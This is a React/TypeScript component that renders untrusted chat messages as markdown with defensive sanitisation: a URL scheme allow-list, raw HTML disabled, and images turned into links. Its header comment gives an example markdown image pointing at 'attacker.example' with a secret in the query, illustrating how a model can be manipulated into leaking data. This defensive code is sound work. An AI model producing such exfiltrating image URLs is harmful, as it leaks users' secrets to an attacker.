'use client';

import { Children, Fragment, cloneElement, isValidElement, memo, useRef, type ComponentProps, type ReactElement, type ReactNode } from 'react';
import { compiler, type MarkdownToJSX } from 'markdown-to-jsx';
import { COPY_LABEL, useCopy } from './copy';
import { keepIntrawordUnderscores } from './intraword-underscores';
import { separateListKinds } from './list-kinds';
import { splitMarkdownBlocks } from './markdown-blocks';
import styles from './conversation.module.css';

/**
 * Messages are untrusted (people and models write them). markdown-to-jsx turns them into React
 * elements only — no HTML string, no innerHTML — and with `disableParsingRawHTML` raw HTML
 * (`<script>`, `<img onerror>`) shows as the characters people typed.
 *
 * - Links: only http:, https:, mailto: and relative URLs (`safeUrl`). The library's default
 *   sanitizer refuses javascript:/vbscript:/data: but lets `data:image/…` through, so we pass our
 *   own allow-list; an unsafe link keeps its text and loses its href (an `<a>` without href is
 *   not a link). Links open in a new tab with `rel="noopener noreferrer nofollow"`.
 * - Images become links to the image: nothing is fetched by merely reading a message (a model
 *   can be talked into writing `![](https://attacker.example/?q=<secret>)`).
 * - Headings get no `id` (message text must not name elements of the page), and sit below the
 *   page's own headings (`heading`).
 */

const REL = 'noopener noreferrer nofollow';
const SAFE_SCHEMES = new Set(['http', 'https', 'mailto']);

/**
 * The URL itself when it may be a link, else null. Browsers ignore control characters and
 * whitespace inside a scheme ("java\tscript:"), so those are removed before the check.
 */
export function safeUrl(value: string): string | null {
  const scheme = /^([a-z][a-z0-9+.-]*):/i.exec(value.replace(/[\u0000-\u0020\u007f]/g, ''));
  return scheme && !SAFE_SCHEMES.has((scheme[1] ?? '').toLowerCase()) ? null : value;
}

/** An image in a message: a link to it, labelled with its alt text. */
function ImageLink({ src, alt, title }: ComponentProps<'img'>) {
  const label = alt || 'Image';
  return typeof src === 'string' && src ? (
    <a href={src} title={title} target="_blank" rel={REL}>
      {label}
    </a>
  ) : (
    <span>{label}</span>
  );
}

/**
 * A code block with a Copy button (code from an agent is there to be used). The clipboard API
 * exists only on https and localhost: elsewhere the code is selected for Ctrl+C instead.
 */
function CodeBlock({ children, ...props }: ComponentProps<'pre'>) {
  const pre = useRef<HTMLPreElement>(null);
  const { state, copy: copyText } = useCopy();
  // The parser ends a block's code with a newline; pasted, it would add an empty line.
  const copy = () => copyText((pre.current?.innerText ?? '').replace(/\n$/, ''), pre.current);
  return (
    <div className={styles.codeBlock}>
      <pre ref={pre} {...props}>
        {children}
      </pre>
      <button type="button" className={styles.copyButton} onClick={copy} aria-live="polite">
        {COPY_LABEL[state]}
      </button>
    </div>
  );
}

/**
 * A table scrolls sideways inside its own box when wider than the bubble, instead of squeezing
 * its columns until words break letter by letter. Focusable (and named), so keyboard users can
 * scroll it too.
 */
function ScrollingTable(props: ComponentProps<'table'>) {
  return (
    <div className={styles.tableScroll} tabIndex={0} role="group" aria-label="Table">
      <table {...props} />
    </div>
  );
}

/** The text of rendered markdown (strings and elements' children), for a direction check. */
function textOf(node: ReactNode): string {
  if (typeof node === 'string' || typeof node === 'number') return String(node);
  if (Array.isArray(node)) return node.map(textOf).join('');
  return isValidElement<{ children?: ReactNode }>(node) ? textOf(node.props.children) : '';
}

const FIRST_LETTER = /\p{L}/u;
const RIGHT_TO_LEFT_SCRIPT = /[\p{Script=Hebrew}\p{Script=Arabic}\p{Script=Syriac}\p{Script=Thaana}\p{Script=Nko}\p{Script=Adlam}]/u;

/**
 * A quote's bar and indent go on the side its text starts from. `dir="auto"` cannot say it here:
 * the browser skips children with a `dir` of their own when it looks for the first strong letter,
 * and the quote's paragraphs have one, so an Arabic quote got its bar on the left.
 */
function Quote({ children, ...props }: ComponentProps<'blockquote'>) {
  const letter = FIRST_LETTER.exec(textOf(children))?.[0];
  const dir = letter === undefined ? undefined : RIGHT_TO_LEFT_SCRIPT.test(letter) ? 'rtl' : 'ltr';
  return (
    <blockquote {...props} dir={dir}>
      {children}
    </blockquote>
  );
}

/**
 * Each block of text takes its direction from its first strong letter (`dir="auto"`), so Arabic
 * or Hebrew reads right to left while the English paragraph beside it stays left to right.
 */
const ownDirection = { props: { dir: 'auto' } };

/**
 * A message's headings sit below the page's own (its h1 is the post's or thread's title, and a
 * screen reader's list of headings is how many people find their way on a page): `#` becomes an
 * h3, `##` an h4, anything deeper an h5 or h6. `data-level` keeps the size the writer asked for.
 * No `id`: message text must not name elements of the page.
 */
const heading = (tag: 'h3' | 'h4' | 'h5' | 'h6', level: number) => ({ component: tag, props: { id: undefined, dir: 'auto', 'data-level': String(level) } });

const OPTIONS: MarkdownToJSX.Options = {
  disableParsingRawHTML: true,
  // A heading needs a space after its #s, as in CommonMark: "#1 priority" and "#hashtags" are text.
  enforceAtxHeadings: true,
  // Always blocks (a one-line message is a paragraph too), side by side in the bubble.
  forceBlock: true,
  wrapper: Fragment,
  sanitizer: (value) => safeUrl(value),
  overrides: {
    a: { props: { target: '_blank', rel: REL } },
    img: { component: ImageLink },
    table: { component: ScrollingTable },
    pre: { component: CodeBlock },
    p: ownDirection,
    li: ownDirection,
    blockquote: { component: Quote },
    td: ownDirection,
    th: ownDirection,
    h1: heading('h3', 1),
    h2: heading('h4', 2),
    h3: heading('h5', 3),
    h4: heading('h6', 4),
    h5: heading('h6', 5),
    h6: heading('h6', 6),
  },
};

/** Block elements: when one is the last child, the caret goes into it, down to where text is written. */
const BLOCKS = new Set<unknown>([Fragment, 'div', 'p', 'h1', 'h2', 'h3', 'h4', 'h5', 'h6', 'ul', 'ol', 'li', 'blockquote', Quote, CodeBlock, 'table', 'thead', 'tbody', 'tr', 'td', 'th']);

type ElementWithChildren = ReactElement<{ children?: ReactNode }>;

/**
 * `node` with `caret` after its last piece of text: inside the last paragraph, list item, heading
 * or code block, so it sits on the line being written and not on a line of its own below a list.
 */
function withCaretAtEnd(node: ReactNode, caret: ReactNode): ReactNode {
  const caretNode = <Fragment key="caret">{caret}</Fragment>;
  if (!isValidElement<{ children?: ReactNode }>(node)) return [node, caretNode];
  const children = Children.toArray(node.props.children);
  const last = children.at(-1);
  // A code block's text is in its <code>: the caret goes there too (not into inline code in a paragraph).
  const goesInto = isValidElement(last) && (BLOCKS.has(last.type) || (node.type === CodeBlock && last.type === 'code'));
  const inner = goesInto ? [...children.slice(0, -1), withCaretAtEnd(last, caret)] : [...children, caretNode];
  return cloneElement(node as ElementWithChildren, undefined, ...inner);
}

/**
 * A streaming reply's last line when it is only a list marker so far ("-", "2."): the item's
 * words are a token away, and until then the marker would show as a stray character at the end
 * of the paragraph above.
 */
const BARE_LIST_MARKER = /(?:^|\n)[ \t]*(?:[-*+]|\d{1,9}[.)])[ \t]*$/;

function withoutBareListMarker(text: string): string {
  return text.replace(BARE_LIST_MARKER, '');
}

/**
 * One top-level block, memoized on its text: it parses again only when its own text changes.
 * `caret`: the streaming reply's, put at the end of this (its last) block's text.
 */
const MarkdownBlock = memo(function MarkdownBlock({ text, caret }: { text: string; caret?: ReactNode }) {
  const rendered = compiler(keepIntrawordUnderscores(separateListKinds(text)), OPTIONS);
  return caret === undefined ? rendered : withCaretAtEnd(rendered, caret);
});

/**
 * A message's markdown, rendered block by block (`splitMarkdownBlocks`): a streamed token
 * re-parses and re-renders the reply's last block only, whatever the reply's length
 * (measured by `npm run bench -- render`). Memoized on the text, so a row re-rendering for
 * other reasons (status, measuring) does not split again.
 *
 * `caret` (a streaming reply's) goes at the end of the last block's text (`withCaretAtEnd`), in a
 * wrapper holding only that block, so the blocks above keep their DOM when the caret goes. (A CSS
 * rule like `p:nth-last-child(2)` on the reply's own blocks, an earlier way to keep the caret on
 * the last line, made Chromium restyle every paragraph each time a block was added.)
 */
export const Markdown = memo(function Markdown({ content, caret }: { content: string; caret?: ReactNode }) {
  const blocks = splitMarkdownBlocks(content);
  const tail = caret === undefined ? null : withoutBareListMarker(blocks.pop() ?? '');
  // One shape whether or not a caret is shown, so the blocks above keep their DOM when it goes.
  return (
    <>
      {blocks.map((block, index) => (
        <MarkdownBlock key={index} text={block} />
      ))}
      {tail !== null && (
        <div className={styles.streamingTail}>
          <MarkdownBlock text={tail} caret={caret} />
        </div>
      )}
    </>
  );
});
